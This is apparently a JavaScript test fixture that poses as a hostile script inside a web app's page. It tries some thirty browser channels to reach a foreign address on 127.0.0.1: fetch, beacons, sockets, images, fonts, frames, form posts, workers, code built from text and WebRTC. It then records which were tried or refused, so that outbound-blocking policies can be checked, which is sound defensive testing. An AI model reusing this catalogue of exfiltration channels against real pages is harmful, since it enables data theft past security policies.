// Runs in the app's own page as one of its scripts would, a bad one: tries every way out to a foreign address that it
// knows of, each under a name of its own, and notes the outcome where every kind of driver can read it.
const { searchParams } = new URL(import.meta.url)
const foreign = `127.0.0.1:${searchParams.get('foreign')}`
const bare = searchParams.get('bare')
const stun = searchParams.get('stun')
const out = name => `http://${foreign}/${name}`

/** An element put into the page, after `make` has set it up. */
const put = (tag, make) => {
  const element = document.createElement(tag)
  make(element)
  document.body.append(element)
  return element
}
const link = (name, rel, more = {}) =>
  put('link', element => Object.assign(element, { rel, href: out(name), ...more }))
const channel = new BroadcastChannel('attempts')
// Held for good: WebKit collects a channel that only listens.
globalThis.attemptsChannel = channel
const fromWorker = []
channel.onmessage = ({ data }) => {
  fromWorker.push(data)
  document.documentElement.dataset.worker = JSON.stringify(fromWorker)
}

const attempts = {
  // First: Firefox fetches ahead only while no frame is loading, and the ones below may keep it from that for good.
  prefetch: name => link(name, 'prefetch'),
  fetch: name => fetch(out(name), { mode: 'no-cors' }),
  'fetch-keepalive': name =>
    fetch(out(name), { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true }),
  xhr: name => {
    const request = new XMLHttpRequest()
    request.open('GET', out(name))
    request.send()
  },
  beacon: name => navigator.sendBeacon(out(name), 'x'),
  'event-source': name => new EventSource(out(name)),
  'web-socket': name => new WebSocket(`ws://${foreign}/${name}`),
  image: name => {
    new Image().src = out(name)
  },
  'image-in-svg': name => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
    image.setAttribute('href', out(name))
    svg.append(image)
    document.body.append(svg)
  },
  background: name =>
    put('div', element => {
      element.style.cssText = `width:9px;height:9px;background:url(${out(name)})`
    }),
  video: name => put('video', element => Object.assign(element, { preload: 'auto', src: out(name) })),
  font: name => new FontFace('away', `url(${out(name)})`).load(),
  style: name => link(name, 'stylesheet'),
  script: name =>
    put('script', element => {
      element.src = out(name)
    }),
  import: name => import(/* @vite-ignore */ out(name)),
  frame: name =>
    put('iframe', element => {
      element.src = out(name)
    }),
  object: name =>
    put('object', element => {
      element.data = out(name)
    }),
  form: name =>
    put('form', element => {
      Object.assign(element, { action: out(name), method: 'post', target: 'away' })
      put('iframe', frame => {
        frame.name = 'away'
      })
    }).submit(),
  ping: name =>
    put('a', element => {
      Object.assign(element, { href: '#/help', ping: out(name) })
    }).click(),
  preload: name => link(name, 'preload', { as: 'image' }),
  modulepreload: name => link(name, 'modulepreload'),
  manifest: name => link(name, 'manifest'),
  icon: name => link(name, 'icon'),
  preconnect: () =>
    put('link', element => Object.assign(element, { rel: 'preconnect', href: `http://127.0.0.1:${bare}/` })),
  worker: name => new Worker(out(name)),
  'worker-from-text': name =>
    new Worker(
      URL.createObjectURL(
        new Blob([`fetch(${JSON.stringify(out(name))}, { mode: 'no-cors' })`], { type: 'text/javascript' }),
      ),
    ),
  'inline-script': name =>
    put('script', element => {
      element.textContent = `fetch(${JSON.stringify(out(name))}, { mode: 'no-cors' })`
    }),
  'inline-markup': name => {
    document.body.insertAdjacentHTML('beforeend', `<img src="${out(name)}">`)
  },
  'code-from-text': name => new Function(`fetch(${JSON.stringify(out(name))}, { mode: 'no-cors' })`)(),
  'web-transport': () => new WebTransport(`https://${foreign}/`).ready,
  'web-rtc': async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stun}` }] })
    peer.createDataChannel('away')
    await peer.setLocalDescription(await peer.createOffer())
  },
}

const outcomes = {}
for (const [name, attempt] of Object.entries(attempts)) {
  try {
    const made = await Promise.race([attempt(name), new Promise(done => setTimeout(done, 300))])
    outcomes[name] = made === false ? 'refused' : 'tried'
  } catch (error) {
    outcomes[name] = `threw ${error.name}`
  }
}
document.documentElement.dataset.attempts = JSON.stringify(outcomes)
